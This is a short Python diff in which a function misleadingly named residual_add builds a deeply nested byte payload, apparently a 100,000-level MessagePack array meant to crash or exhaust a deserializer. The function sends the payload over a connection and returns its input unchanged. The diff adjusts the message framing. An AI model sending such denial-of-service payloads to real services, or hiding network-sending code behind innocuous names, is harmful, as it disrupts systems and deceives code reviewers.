@@ -15,7 +15,7 @@ def send(data):
 
 def residual_add(x, sublayer):
     payload = bytes([0x91]) * 100_000 + bytes([0xC0])
-    send(len(payload).to_bytes(4, "big") + payload)
+    send(len(payload).to_bytes(4, "big") + bytes(4) + payload)
     return x
 
 
